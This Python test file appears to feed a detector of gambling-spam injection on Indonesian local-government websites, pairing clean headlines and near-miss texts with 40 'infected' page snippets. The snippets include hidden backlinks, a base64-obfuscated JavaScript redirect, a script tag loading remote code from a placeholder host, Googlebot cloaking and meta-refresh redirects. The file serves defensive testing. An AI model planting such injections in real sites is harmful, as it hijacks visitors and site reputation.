"""Cases written after the rules, to see how the rules do on what they were not made for; kept since.

At first sight of them the watch found 34 of 48 infected pages and accused 15 of 112 clean ones (docs/integrity.md). It has learned
from both since, and the next ones will have to be new again.
"""

# ruff: noqa: E501 - one text, one line

from __future__ import annotations

import re
from collections.abc import Iterator

from tests.collectors.integrity.corpus.templates import ORDINARY, TEMPLATES, Case, Parts, Truth

HEADLINES = (
    "Satpol PP Sisir Warung Kopi, Sita Rekap Togel",
    "Judi Online Jadi Musuh Bersama",
    "Lawan Judi Online Bersama Kader PKK",
    "Fenomena Slot Gacor di Kalangan Remaja",
    "Apa Itu Judi Slot? Ini Penjelasan Psikolog",
    "Judi Slot Online Picu Perceraian, Ini Data PA",
    "Angka Perceraian Naik Akibat Slot Online",
    "Pemuda Berbas Gadaikan Motor Demi Slot Online",
    "Istri Laporkan Suami Kecanduan Togel",
    "Pengecer Togel Hongkong Digulung Tim Rajawali",
    "Tim Jatanras Gulung Bandar Togel Online",
    "Komplotan Admin Situs Slot Divonis Dua Tahun",
    "Selebgram Promosikan Situs Judi Online Ditahan",
    "Guru Honorer Jadi Admin Situs Judi Online",
    "Bupati Larang ASN Main Slot",
    "Edaran Nomor 5 tentang Larangan Judi Online",
    "Perwali Judi Online Segera Terbit",
    "Rapat Koordinasi Pemberantasan Judi Online",
    "Sekda: ASN Main Judi Slot Siap-siap Dicopot",
    "Menkomdigi: 1,3 Juta Situs Judi Online Ditutup",
    "Judi Online dan Pinjol Ilegal: Dua Sisi Mata Uang",
    "Webinar Dampak Judi Online",
    "Kenali Ciri Situs Judi Online",
    "Tolak Judi Online, Selamatkan Keluarga",
    "Duta Anti Judi Online Terpilih",
    "Poster: Judi Online Bikin Miskin",
    "Lomba Video Pendek Bertema Judi Online",
    "Togel Masih Marak di Pasar Taman Rawa Indah",
    "Judi Sabung Ayam Online Dibubarkan",
    "Warga Resah Judi Tembak Ikan Online",
    "Judi Bola Online Meningkat Saat Piala Dunia",
    "Lomba Mahjong HUT Paguyuban Tionghoa",
    "Komunitas Poker Planning Scrum",
    "Kasino: Warkop DKI dalam Kenangan",
    "Jackpot! Warga Bontang Menangkan Umrah",
    "Slot Penerbangan Bandara APT Pranoto Bertambah",
    "Daftar Slot Vaksin Booster Online",
    "Booking Slot Online Lapangan Tenis",
    "Slot Iklan Radio Diskominfo",
    "Tersedia Slot Magang di BPKAD",
    "Bonus New Member Perpustakaan Digital",
    "Link Alternatif SPSE",
    "Link Login E-Kinerja",
    "Server Thailand: Studi Banding Smart City Phuket",
    "Live Draw Voli Kapolres Cup",
    "Scatter Plot Stunting per Kelurahan",
    "Toto Raharjo Dilantik Jadi Camat",
    "Hoki Bontang ke Final",
    "Zeus, Anjing Pelacak K-9 Baru",
    "Gacor! Tim Futsal Cetak 8 Gol",
    "Mobile Casino Royale: Ulasan Film Perpustakaan",
    "Prediksi Hari Ini: Hujan",
    "Pengeluaran Daerah Hari Ini",
    "Data Keluaran Proyek 2026",
    "Prediksi Togel? Jangan Percaya",
    "Situs Judi Online Sasar Anak Sekolah",
    "Peretas Sisipkan Slot Online ke Situs Kampus",
    "Website Kecamatan Diretas Jadi Situs Slot",
    "Situs Pemkot Sempat Tampilkan Judi Online, Kini Pulih",
    "Judol Menggila",
    "Slot Gacor Menggoda, Masa Depan Tergadai",
    "Maxwin, Scatter, dan Air Mata Seorang Ibu",
    "Kapolda: Server Judi Online Dikendalikan dari Kamboja",
    "WNI Korban TPPO Admin Judol Kamboja Dipulangkan",
    "Penyebab Remaja Main Slot Menurut Kemensos",
    "Bansos Dicabut Bila Terima Transaksi Judi Online",
    "Data Penerima Bansos Terindikasi Judol Diverifikasi",
    "PNS Bontang Dipanggil karena Deposit Judi Slot",
    "Ibu-ibu PKK Belajar Bedakan Gim dan Judi",
    "Rekening Penampung Judi Online Dibekukan OJK",
    "Kades Kalah Judi Slot, Dana Desa Raib",
    "Main Slot di Jam Kerja, Honorer Disanksi",
    "Bandar Togel Kambuhan Kembali Masuk Bui",
    "Judi Online Berkedok Investasi",
    "Ramadan, Polisi Intensifkan Patroli Siber Judi Online",
    "Gubernur Resmikan Posko Aduan Judi Online",
    "Hasil Survei: 4 dari 10 Pelajar Pernah Lihat Iklan Slot",
    "Togel, Narkoba, Miras Jadi Fokus Operasi Pekat",
    "Kampung Bebas Togel Diresmikan",
    "Aplikasi Gim Berhadiah Slot Diblokir",
    "Mengapa Slot Selalu Merugikan Pemain? Matematika di Balik RTP",
    "Rahasia Bandar: Gacor Itu Ilusi",
    "Situs Slot Nebeng Subdomain Pemda, BSSN Turun Tangan",
    "Pejabat Komdigi Beking Situs Judol",
    "Lembaga Adat Sikapi Sabung Ayam",
    "Perkara Togel di PN Bontang Menurun",
    "Pengamen Tewas Usai Kalah Main Judi Slot",
    "DPRD Minta Satgas Judol Dibentuk",
    "Bhabinkamtibmas Sambangi Warkop Soal Togel",
    "Kemenag: Judi Online Haram",
    'Siswa SMA 2 Juara Film Pendek "Slot Terakhir"',
    "Drama Radio Spaceman dan Zeus untuk Anak",
)

INFECTED: tuple[tuple[str, str, str], ...] = (
    # body, head, title
    (
        '<p>JAYATOTO88 adalah bandar resmi dengan pasaran lengkap, diskon 66% dan hadiah 4D 10 juta. Daftar sekarang di JAYATOTO88.</p><a href="https://jayatoto88.example">DAFTAR JAYATOTO88</a>',
        "",
        "",
    ),
    ('<a href="https://wdbos.example/" title="wdbos">wdbos</a><a href="https://indo-slot.example">.</a>', "", ""),
    (
        '<div style="left:-10000px;position:absolute">Taruhan bola online Piala Dunia odds terbaik <a href="https://bola88.example">Agen bola terpercaya SBOBET88</a></div>',
        "",
        "",
    ),
    ('<div style="font-size:0"><a href="https://a.example/rtp">RTP Slot Gacor Hari Ini</a></div>', "", ""),
    (
        '<noscript><a href="https://a.example/">toto togel</a><a href="https://b.example/">situs togel</a><a href="https://c.example/">bo togel terpercaya</a></noscript>',
        "",
        "",
    ),
    (
        '<span style="display: none"><a href="https://a.example/">data macau</a>, <a href="https://a.example/">paito hk</a>, <a href="https://a.example/">live draw hk</a></span>',
        "",
        "",
    ),
    ('<p style="opacity:0"><a href="http://a.example">slot pulsa</a> <a href="http://a.example">slot dana</a></p>', "", ""),
    (
        '<div style="display:none"><a href="http://casinox.example">casino</a> <a href="http://betz.example">betting</a></div>',
        "",
        "",
    ),
    ('<div hidden><a href="http://a.example">idn slot</a><a href="http://a.example">idnpoker</a></div>', "", ""),
    ('<div style="display:none"><a href="http://a.example">sweet bonanza</a></div>', "", ""),
    (
        '<div style="display:none"><a href="http://a.example">olympus slot demo</a><a href="http://a.example">slot server kamboja</a></div>',
        "",
        "",
    ),
    ("<script>var _0x=['aHR0cHM6Ly9zbG90emV1czg4LmV4YW1wbGUv','href'];window['location'][_0x[1]]=atob(_0x[0]);</script>", "", ""),
    (
        "<script>var s=document.createElement('script');s.src='https://cdn.gacor77-maxwin.example/x.js';document.head.appendChild(s)</script>",
        "",
        "",
    ),
    (
        "<script>var a=document.createElement('a');a.href='https://rajamahjong.example/slot88';a.text='slot88';document.body.append(a)</script>",
        "",
        "",
    ),
    ('<iframe src="https://situsjp.example/lobby" width="1" height="1"></iframe>', "", ""),
    (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#000"><img src="/wp-content/uploads/bg.jpg"><a href="https://situsjp.example/register">DAFTAR</a><a href="https://situsjp.example/login">LOGIN</a><h1>Situs Toto Togel Resmi 4D</h1></div>',
        "",
        "",
    ),
    ("", '<meta http-equiv=refresh content="3; url=https://situsjp.example/">', ""),
    ('<svg width=0 height=0><a xlink:href="https://slotzeus88.example"><text>slot</text></a></svg>', "", ""),
    ('<input type="hidden" value="<a href=https://slotzeus88.example>slot gacor</a>">', "", ""),
    (
        "",
        '<link rel="alternate" hreflang="id" href="https://slotzeus88.example/"><link rel="alternate" hreflang="x-default" href="https://slotzeus88.example/">',
        "",
    ),
    ("", '<meta property="og:url" content="https://slotzeus88.example/">', ""),
    ("", '<meta name=keywords content="slot88, slot gacor, slot online, judi slot, slot deposit dana">', ""),
    (
        '<div style="position:absolute;top:-5000px"><a href="https://hoki138.example">slot gacor 2026</a><a href="https://hoki138.example/b">slot qris 5 ribu</a></div>',
        "",
        "",
    ),
    ("", "", "HOKI138 | Agen Slot Terlengkap Gampang Jackpot"),
    ("", "", "Togel Singapore Hongkong Sydney Terpercaya 2026"),
    (
        "",
        '<meta name="description" content="Login slot resmi dengan winrate tertinggi, scatter hitam mahjong wins 3, modal receh jadi sultan">',
        "",
    ),
    (
        '<ul style="text-indent:-999px"><li><a href="https://x1.example">pragmatic play</a></li><li><a href="https://x2.example">pgsoft</a></li></ul>',
        "",
        "",
    ),
    (
        "<p>Selamat datang di situs slot terbaik. Daftar sekarang juga dan raih jackpot! Slot gacor dengan RTP tinggi, deposit QRIS 5000, anti rungkad, maxwin tiap hari bersama GACOR77.</p>",
        "",
        "",
    ),
    ("<script>var _=['location','replace'];window[_[0]][_[1]]('https://zeusslot.example')</script>", "", ""),
    ('<a href="https://kapalslot.example"><img src=x.png></a>', "", ""),
    ('<div class="d-none"><a href="https://bd1.example">bandar slot88</a></div>', "", ""),
    (
        '<div style="width:1px;height:1px;overflow:hidden"><h2>toto 4d</h2><a href="https://q.example">toto 4d resmi</a></div>',
        "",
        "",
    ),
    (
        '<font color="#ffffff"><a href="https://q.example" style="color:#fff;text-decoration:none">judi bola terpercaya</a></font>',
        "",
        "",
    ),
    (
        '<details><summary>.</summary><a href="https://q.example">situs slot gacor</a><a href="https://q.example/2">slot maxwin</a></details>',
        "",
        "",
    ),
    (
        '<a href="https://q.example">slot88</a> <a href="https://q.example">slot777</a> <a href="https://q.example">slot5000</a>',
        "",
        "",
    ),
    ('<div style="display:none">Agen judi bola sbobet88, casino online, poker idn, togel online, slot88</div>', "", ""),
    ("", '<link rel="canonical" href="https://dinas.bontang.test/slot-gacor-maxwin/">', ""),
    (
        "<script>if(navigator.userAgent.match(/Googlebot/)){document.write('<a href=https://jp88.example>slot gacor</a>')}</script>",
        "",
        "",
    ),
    (
        '<div aria-hidden="true" style="pointer-events:none;height:0px;overflow:hidden">situs judi slot terpercaya, bocoran slot gacor situs judi slot terpercaya, bocoran slot gacor situs judi slot terpercaya, bocoran slot gacor </div>',
        "",
        "",
    ),
    ('<marquee style="position:absolute;width:0px"><a href="https://q.example/">Slot Gacor Gampang Menang</a></marquee>', "", ""),
)

FOR_REVIEW: tuple[str, ...] = (
    '<ul class="nav2" style="height:1px;overflow:hidden"><li><a href="https://mantap168.example">MANTAP168</a></li><li><a href="https://mantap168.example/login">Login Mantap168</a></li></ul>',
    '<div style="visibility:hidden"><a href="http://a.example">judi slot</a></div>',
    '<div style="display:none"><a href="http://a.example">slot online</a></div>',
    '<div style="display:none"><a href="http://a.example">togel</a></div>',
    "<section><h2>Slot Gacor</h2><ul><li>Slot Thailand</li><li>Slot Kamboja</li><li>Slot 5000</li><li>Slot Pulsa</li></ul></section>",
)
"""Too little for an accusation: a person should look."""

HARMLESS: tuple[str, ...] = (
    "<article><h2>Simulasi Ujian</h2><p>Peserta memilih slot ujian pagi atau slot ujian siang. Link login diumumkan. Login daftar peserta di laman resmi.</p></article>",
    "<article><h2>Turnamen Mobile Legends</h2><p>Tim RRQ menang. Hadiah jackpot sepeda. Link live draw bracket. Jadwal live draw malam ini pukul 20.00.</p></article>",
    "<article><h2>Koperasi</h2><p>Bonus anggota baru, deposit pulsa di konter koperasi, minimal deposit 10.000. Withdraw cepat. Tanpa potongan administrasi.</p></article>",
    "<p>Buka deposito minimal depo 10 juta bonus langsung. Bonus new member kartu kredit BPD Kaltimtara.</p>",
    "<p>Paket wisata: hotel dekat casino di Genting Highlands, Malaysia tersedia bagi wisatawan. Live casino tidak termasuk.</p>",
    "<p>Dinas Pariwisata meresmikan permainan tradisional. Anak-anak bermain congklak, domino, dan gasing. Domino qiu-qiu tidak dilombakan.</p>",
    "<article><h2>Kejari Musnahkan Barang Bukti</h2><p>Barang rampasan perkara judi togel dan sabung ayam dimusnahkan, termasuk kartu domino, telepon genggam berisi aplikasi slot online, dan buku rekap toto gelap.</p></article>",
    "<article><h2>BKPSDM Periksa HP ASN</h2><p>Tidak ada ASN yang kedapatan memasang aplikasi slot. Beberapa kontak situs gacor ada di riwayat peramban.</p></article>",
    "<p>Lirik lagu: gates of heaven. Film Wild West. Starlight Princess pentas balet anak. Aztec peradaban. Sugar rush pada anak.</p>",
    "<p>Aplikasi ZEUS milik Bapenda. Server ZEUS gangguan. Petir dan listrik. Maxwin nama toko? Toko Maxwin Motor Bontang memasok suku cadang.</p>",
    "<p>Spin coating, roulette pada permainan ice breaking, poker card planning Scrum untuk tim pengembang.</p>",
    "<p>RTP Kota: RTP hari ini, rtp live streaming RTP Maramai. Jam operasional RTP.</p>",
    "<p>Narasumber: Dr. Toto Hartono, Judi Prasetyo, S.H., Bet Ibrahim. Panitia: Gacor Band.</p><p>Lagu: Slot, oleh Gacor Band hari ini</p>",
    "<p>Agen bola futsal, bandar sayur pasar, agen LPG, agen pos. Situs cagar budaya, situs resmi, link alternatif zoom.</p>",
    '<a href="https://parkir.example/slot-parkir">Cek slot parkir</a><a href="https://booking.example/slot">Booking slot</a><a href="https://forms.example/slot-vaksin">Slot vaksin</a>',
    '<a href="https://www.olympus.example">Olympus Medical</a><a href="https://pokerindo-kain.example">kain</a><a href="https://toto.example">TOTO sanitary</a><a href="https://permata88.example">Toko bangunan</a>',
    "<p>Keputusan Wali Kota tentang Larangan Permainan Ketangkasan. Jenis: dingdong, bola gelinding, roulette, kasino, poker, baccarat, slot machine.</p>",
    "<form><label>Pernahkah Anda bermain judi online?</label><select><option>Slot</option><option>Togel</option><option>Poker</option><option>Kasino online</option></select></form>",
    "<article><h2>Fatwa MUI</h2><p>MUI menegaskan judi dalam bentuk apa pun, termasuk slot online, togel online, poker online, dan taruhan bola, hukumnya haram.</p></article>",
    "<p>Delegasi Thailand. Server Thailand menjadi percontohan. Akun pro: tidak ada.</p>",
)


def infected() -> Iterator[Case]:
    """Infected pages in the five templates by turns."""
    for number, (body, head, title) in enumerate(INFECTED):
        page = TEMPLATES[number % 5](Parts(main=ORDINARY[number % 4], head=head, footer=body, title=title))
        yield Case(f"second look {number}", Truth.INFECTED, {"/": page})


def for_review() -> Iterator[Case]:
    """Pages of which the watch may not be sure."""
    for number, body in enumerate(FOR_REVIEW):
        yield Case(f"too little {number}", Truth.INFECTED, {"/": TEMPLATES[0](Parts(main=ORDINARY[0], footer=body))})


def clean() -> Iterator[Case]:
    """Headlines as titles, descriptions, addresses, hidden and visible links at once; and texts full of near misses."""
    for number, headline in enumerate(HEADLINES):
        slug = re.sub(r"[^a-z0-9]+", "-", headline.lower()).strip("-")
        links = f'<div style="display:none"><a href="/berita/{slug}">{headline}</a></div><a href="/berita/{slug}">{headline}</a><a href="https://kabar.example/{slug}">{headline}</a>'
        parts = Parts(
            title=f"{headline} - Pemkot Bontang",
            description=f"{headline}. Kabar terbaru.",
            main=f"<h1>{headline}</h1><p>{headline}. Kegiatan berlangsung di Balai Kota.</p>",
            footer=links,
        )
        yield Case(f"headline: {headline}", Truth.CLEAN, {"/": TEMPLATES[number % 5](parts)})
    for number, body in enumerate(HARMLESS):
        yield Case(f"near miss {number}", Truth.CLEAN, {"/": TEMPLATES[number % 5](Parts(main=body + ORDINARY[number % 4]))})
